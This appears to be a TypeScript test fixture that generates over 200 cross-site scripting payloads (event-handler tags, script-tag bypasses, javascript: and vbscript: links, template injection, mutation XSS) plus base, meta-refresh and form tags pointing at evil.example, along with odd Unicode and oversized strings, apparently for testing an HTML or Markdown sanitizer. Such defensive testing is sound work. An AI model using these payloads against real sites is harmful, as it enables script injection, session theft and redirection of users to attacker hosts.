/** More than 200 ways in which text has become script elsewhere: elements × handlers × spellings. */
const RUN = 'window.__hurt=1'
const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'iframe',
  'input autofocus',
  'details open',
  'marquee',
  'object data=x',
]
const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onstart',
  'onmouseover',
  'onanimationstart',
]
const SPELLINGS = [
  (element: string, handler: string) => `<${element} ${handler}="${RUN}">`,
  (element: string, handler: string) => `"><${element} ${handler}=${RUN}>`,
  (element: string, handler: string) =>
    `<${element.toUpperCase()}/${handler.toUpperCase()}='${RUN}'//`,
]
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  '\u0001javascript:',
  'data:text/html,',
  'vbscript:',
  '&#106;avascript:',
]
const OTHERS = [
  `<script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `'-${RUN}-'`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<style>@import 'https://evil.example/x.css'</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<base href=https://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<form action=https://evil.example/><button>ok</button></form>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `]]><img src=x onerror=${RUN}>`,
]

export const VECTORS: string[] = [
  ...OTHERS,
  ...SCHEMES.flatMap((scheme) => [`[x](${scheme}${RUN})`, `<a href="${scheme}${RUN}">x</a>`]),
  ...ELEMENTS.flatMap((element) =>
    HANDLERS.flatMap((handler) => SPELLINGS.map((spell) => spell(element, handler))),
  ),
]

export const ODD_TEXTS = [
  '\u202Egnp.exe \u2066hidden\u2069 مرحبا بالعالم \u200F',
  '👩‍👩‍👧‍👦🔥'.repeat(200),
  'Z̸̢̛͇a̷l̶g̴o̵'.repeat(200),
  'x'.repeat(60_000),
]
